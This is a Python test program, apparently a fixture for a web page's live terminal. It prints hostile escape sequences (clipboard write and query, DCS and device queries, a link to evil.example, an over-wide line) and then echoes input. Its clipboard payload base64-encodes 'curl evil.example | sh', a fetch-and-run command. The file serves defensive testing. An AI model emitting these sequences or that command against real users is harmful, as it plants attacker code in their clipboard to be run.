#!/usr/bin/env python3
"""A program whose terminal output is hostile, for the page's live terminal (issue 42).

The hostile screen of :mod:`hostile_screen` (markup, an OSC title, an OSC 8
``javascript:`` link), and what a browser terminal could be talked into:
an OSC 52 clipboard write (set and query), a DCS, device and window queries,
a line far wider than the pane (first: it scrolls partly away). Then it echoes each line typed into it as
``got: LINE``.
"""

from __future__ import annotations

import base64
import sys

from hostile_screen import ESC, SCREEN

PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
HUGE = "HUGE:" + "x" * 1200 + ":END"  # wraps over a dozen rows, scrolling the top away
EXTRA = [
    f"{ESC}]52;c;{PAYLOAD}{ESC}\\clipboard set{ESC}]52;c;?\x07 and asked",
    f"{ESC}P+q544e{ESC}\\{ESC}[21t{ESC}[6n{ESC}]10;?\x07queries",
    f"{ESC}]8;;https://evil.example/{ESC}\\an http link{ESC}]8;;{ESC}\\",
]


def main() -> int:
    sys.stdout.write("\n".join([HUGE, *SCREEN[:-1], *EXTRA, "type a line:"]) + "\n")
    sys.stdout.flush()
    for line in sys.stdin:
        sys.stdout.write(f"got: {line.rstrip()}\n")
        sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
